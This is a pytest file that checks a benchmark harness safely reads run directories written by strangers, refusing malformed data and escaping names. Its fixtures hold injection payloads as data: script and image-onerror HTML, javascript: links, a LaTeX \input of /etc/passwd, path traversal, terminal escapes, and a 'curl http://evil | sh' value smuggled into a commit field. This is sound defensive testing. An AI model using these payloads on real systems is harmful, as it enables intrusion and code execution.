"""Runs from strangers (issue 18): a published run directory anyone may have written is read safely.

Every reader (summary in each format, report, compare) refuses a malformed run with one line and exit 2, and what it
does print shows names and facts as text: no HTML, no link out of the run directory, no LaTeX command, no terminal
control sequence. The cases are crafted from the example run, one field at a time.
"""

from __future__ import annotations

import copy
import json
import math
import re
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from jsonschema import Draft202012Validator

from harness.cli import main

REPO = Path(__file__).resolve().parents[2]
EXAMPLE = REPO / "tests" / "data" / "example-run"
SAMPLES_SCHEMA = Draft202012Validator(json.loads((REPO / "schemas" / "samples.schema.json").read_text()))


def _first_measured_build(samples: list[dict]) -> dict:
    return next(s for s in samples if not s["warmup"] and s["kind"] == "build")


def _craft(tmp_path: Path, sample: Callable[[dict], None] | None = None,
           manifest: Callable[[dict], None] | None = None, rename: tuple[str, str] | None = None,
           raw_line: str | None = None) -> Path:
    """The example run with one thing changed: a sample, the manifest, a name everywhere, or a raw samples line."""
    run = tmp_path / "run"
    shutil.copytree(EXAMPLE, run)
    samples = [json.loads(line) for line in (run / "samples.jsonl").read_text().splitlines()]
    record = json.loads((run / "manifest.json").read_text())
    if sample:
        sample(_first_measured_build(samples))
    if manifest:
        manifest(record)
    if rename:
        old, new = rename
        for line in samples:
            line.update({key: new for key in ("scenario", "workload") if line[key] == old})
        record = json.loads(json.dumps(record).replace(json.dumps(old), json.dumps(new)))
    lines = [json.dumps(line) for line in samples] + ([raw_line] if raw_line else [])
    (run / "samples.jsonl").write_text("".join(line + "\n" for line in lines))
    (run / "manifest.json").write_text(json.dumps(record))
    return run


def _set(key: str, value: object) -> Callable[[dict], None]:
    return lambda record: record.__setitem__(key, value)


def _scenario(key: str, value: object) -> Callable[[dict], None]:
    return lambda record: record["scenarios"]["local-overlay2-naive"].__setitem__(key, value)


MALFORMED = {
    "infinite seconds": (dict(sample=_set("seconds", math.inf)), r"line \d+ holds Infinity, which is not a JSON"),
    "NaN seconds": (dict(sample=_set("seconds", math.nan)), r"holds NaN, which is not a JSON number"),
    "negative seconds": (dict(sample=_set("seconds", -3.5)), r"seconds is -3.5, not a number of seconds"),
    "ok as a string": (dict(sample=_set("ok", "no")), r"ok is 'no', not true or false"),
    "fractional rep": (dict(sample=_set("rep", 1.5)), r"rep is 1.5, not an integer of at least 1"),
    "boolean round": (dict(sample=_set("round", True)), r"round is True, not an integer"),
    "unknown kind": (dict(sample=_set("kind", "bogus")), r"kind is 'bogus', not one of step, build"),
    "unknown builder": (dict(sample=_set("builder", "evil")), r"builder is 'evil', not one of"),
    "string commit phase": (dict(sample=_set("phases", {"commit_s": "slow"})), r"phases.commit_s is 'slow'"),
    "profile classes as a list": (dict(sample=_set("profile", {"samples": 3, "classes": [1, 2]})),
                                  r"profile.classes is \[1, 2\], not an object of counts"),
    "profile without samples": (dict(sample=_set("profile", {"classes": {"tar": 1}})),
                                r"profile is .*, not an object with samples and classes"),
    "a number as a scenario name": (dict(sample=_set("scenario", 7)), r"scenario has the name 7"),
    "escape sequence in a name": (dict(rename=("seed", "seed\x1b[2J\x07")), r"'seed\\x1b\[2J\\x07'"),
    "manifest params as a list": (dict(manifest=lambda m: m["workloads"]["seed"].__setitem__("params", [1])),
                                  r"manifest.json: workloads.seed.params is array, not object"),
    "manifest scenarios as a list": (dict(manifest=_set("scenarios", ["a"])), r"scenarios is array, not object"),
    "manifest workloads as a string": (dict(manifest=_set("workloads", "x")), r"workloads is string, not object"),
    "rounds in words": (dict(manifest=_set("rounds", "five")), r"rounds is string, not integer"),
    "no rounds": (dict(manifest=_set("rounds", 0)), r"rounds is 0, below 1"),
    "min_effect in words": (dict(manifest=_set("min_effect", "big")), r"min_effect is string, not number"),
    "min_effect above 1": (dict(manifest=_set("min_effect", 5)), r"min_effect is 5, not a fraction"),
    "NaN in the manifest": (dict(manifest=_set("min_effect", math.nan)), r"manifest.json is not valid JSON"),
    "flame graph outside the run": (
        dict(manifest=_scenario("flame_graph", {"folded": "f.folded", "svg": "../../../etc/passwd"})),
        r"scenarios.local-overlay2-naive.flame_graph.svg is '../../../etc/passwd', which is not a path inside"),
    "absolute context list": (dict(manifest=lambda m: m["workloads"]["seed"].__setitem__("context_files", "/etc/x")),
                              r"workloads.seed.context_files is '/etc/x'"),
    "a line that is not an object": (dict(raw_line='[1, 2]\n{"kind": "build"}'), r"is not a JSON object"),
}
READERS = (["summary"], ["summary", "--format", "md"], ["summary", "--format", "latex"], ["summary", "--format", "json"],
           ["report"], ["compare"])


@pytest.mark.parametrize("case", MALFORMED, ids=list(MALFORMED))
def test_every_reader_refuses_a_malformed_run_with_one_line(case: str, tmp_path: Path, capsys) -> None:
    spec, message = MALFORMED[case]
    run = _craft(tmp_path, **spec)
    for reader in READERS:
        argv = [reader[0], str(EXAMPLE), str(run)] if reader == ["compare"] else [reader[0], str(run), *reader[1:]]
        if reader == ["report"]:
            argv += ["--out", str(tmp_path / "report")]
        assert main(argv) == 2, (case, reader)
        err = capsys.readouterr().err
        assert len(err.strip().splitlines()) == 1 and re.search(message, err), (reader, err)
        assert "\x1b" not in err


def test_a_run_of_valid_look_alikes_is_read(tmp_path: Path, capsys) -> None:
    """Zero seconds, a profile with no samples, phases that are null, a name with Unicode: all fine."""
    def edit(sample: dict) -> None:
        sample.update(seconds=0, profile={"samples": 0, "classes": {}}, phases={"commit_s": None, "note": "n/a"})
    run = _craft(tmp_path, sample=edit, rename=("local-vfs", "vfs-ünïcode"))
    assert main(["summary", str(run)]) == 0
    assert "vfs-ünïcode" in capsys.readouterr().out


HOSTILE = "<img src=x onerror=alert(1)>|`[x](javascript:alert(1))$\\input{/etc/passwd}"


@pytest.fixture
def hostile_run(tmp_path: Path) -> Path:
    def facts(manifest: dict) -> None:
        manifest["host"]["hostname"] = "evil\n```\n<script>alert(1)</script>"
        manifest["scenarios"]["local-vfs"]["reason"] = "<b>bold</b>\x1b[2J"
        manifest["git_commit"] = "abc; curl http://evil | sh"
    return _craft(tmp_path, manifest=facts, rename=("local-overlay2-naive", HOSTILE))


def _prose(markdown: str) -> str:
    """The Markdown outside code spans and fences: where a tag or link would take effect."""
    markdown = re.sub(r"^```.*?^```", "", markdown, flags=re.S | re.M)
    return re.sub(r"(?<![\\`])(`+)(?!`).*?(?<![\\`])\1(?!`)", "", markdown)


def test_markdown_shows_a_hostile_name_and_facts_as_text(hostile_run: Path, tmp_path: Path, capsys) -> None:
    assert main(["report", str(hostile_run), "--out", str(tmp_path / "report")]) == 0
    assert main(["summary", str(hostile_run), "--format", "md"]) == 0
    for text in ((tmp_path / "report" / "report.md").read_text(), capsys.readouterr().out):
        prose = _prose(text)
        assert not re.search(r"(?<!\\)<(img|script|b)\b", prose)
        assert not re.search(r"(?<!\\)\]\(javascript", prose)
        assert "\x1b" not in text
        fences = [line for line in text.splitlines() if line.startswith("```")]
        assert len(fences) % 2 == 0 and all(line in ("```", "```sh", "```text") for line in fences)
    report = (tmp_path / "report" / "report.md").read_text()
    assert "git checkout abc" not in report and "curl" not in report.split("```sh")[1].split("```")[0]
    assert "evil\\n```\\n" in report  # the hostname's newlines shown, not obeyed


def test_latex_and_terminal_show_a_hostile_name_as_text(hostile_run: Path, capsys) -> None:
    assert main(["summary", str(hostile_run), "--format", "latex"]) == 0
    latex = capsys.readouterr().out
    body = [line for line in latex.splitlines() if not line.startswith("%")]
    assert not any("\\input{" in line for line in body)
    assert any(r"\textbackslash{}input\{/etc/passwd\}" in line for line in body)
    assert main(["summary", str(hostile_run)]) == 0
    assert "\x1b" not in capsys.readouterr().out


def _schema_valid(record: dict) -> bool:
    return not list(SAMPLES_SCHEMA.iter_errors(record))


def _variants(sample: dict) -> list[dict]:
    """Each key of a real sample set to values of every JSON type, one at a time."""
    values = (None, True, 0, 1, 2, -1, 1.5, "", "x", "step", "build", "classic", [], [1], {}, {"samples": 1})
    out = []
    for key in sample:
        for value in values:
            variant = copy.deepcopy(sample)
            variant[key] = value
            out.append(variant)
    return out


def test_the_reader_accepts_exactly_what_the_samples_schema_describes(tmp_path: Path) -> None:
    """The reader implements schemas/samples.schema.json (without a runtime dependency on a validator): over every
    single-key variant of a step and a build line, it refuses a line exactly when the schema does — except keys the
    schema requires that hand-made and schema-1 samples may leave out (run_id, ended_at, schema, round)."""
    from harness.errors import InputError
    from harness.results.reader import _parse_sample

    lines = [json.loads(line) for line in (EXAMPLE / "samples.jsonl").read_text().splitlines()]
    step = next(s for s in lines if s["kind"] == "step")
    build = _first_measured_build(lines)
    profiled = dict(step, phases={"setup_s": 0.1, "command_s": 0.2, "commit_s": 0.3, "note": None},
                    profile={"samples": 2, "classes": {"tar": 1}})
    checked = 0
    for variant in _variants(step) + _variants(build) + _variants(profiled):
        try:
            _parse_sample(variant, "line")
            accepted = True
        except InputError:
            accepted = False
        assert accepted == _schema_valid(variant), variant
        checked += 1
    assert checked > 500


@pytest.mark.parametrize(("campaign", "message"), [
    ({"machines": ["alpha"]}, r"no object of machine records under `machines`"),
    ({"machines": {"alpha": {"status": "done", "run_dir": "../../elsewhere"}}},
     r"machines.alpha.run_dir is '../../elsewhere', which is not a path inside"),
    ({"machines": {"al\x1bpha": {"status": "done", "run_dir": "runs/alpha"}}}, r"machines has the name 'al\\x1bpha'"),
    ({"machines": {"alpha": {"status": "done", "run_dir": "runs/alpha"}}, "x": math.inf}, r"holds Infinity"),
])
def test_a_malformed_campaign_directory_is_refused(campaign: dict, message: str, tmp_path: Path, capsys) -> None:
    shutil.copytree(EXAMPLE, tmp_path / "runs" / "alpha")
    (tmp_path / "campaign.json").write_text(json.dumps(campaign))
    assert main(["summary", str(tmp_path)]) == 2
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1 and re.search(message, err), err


def test_a_campaign_report_shows_machine_names_facts_and_reasons_as_text(tmp_path: Path) -> None:
    """campaign.json is as much a stranger's file as a run: its machine facts and reasons reach the report as text."""
    from tests.unit.test_campaign_directory import make_campaign

    directory = make_campaign(tmp_path, {"m1": "example-run", "m2": "example-run-after"},
                              {"ghost": "<script>alert(1)</script>\n```\n[x](javascript:alert(1))"})
    campaign = json.loads((directory / "campaign.json").read_text())
    campaign["machines"]["m1"]["facts"]["kernel"] = "6.1 <img src=x onerror=alert(1)>|x"
    campaign["started_at"] = "2026\n```\n<b>"
    (directory / "campaign.json").write_text(json.dumps(campaign))
    assert main(["report", str(directory), "--out", str(tmp_path / "report")]) == 0
    text = (tmp_path / "report" / "report.md").read_text()
    prose = _prose(text)
    assert not re.search(r"(?<!\\)<(img|script|b)\b", prose) and not re.search(r"(?<!\\)\]\(javascript", prose)
    fences = [line for line in text.splitlines() if line.startswith("```")]
    assert fences == ["```", "```"], fences
    assert "| `ghost` | unreachable: \\<script>alert(1)\\</script>\\\\n" in text  # shown, not obeyed
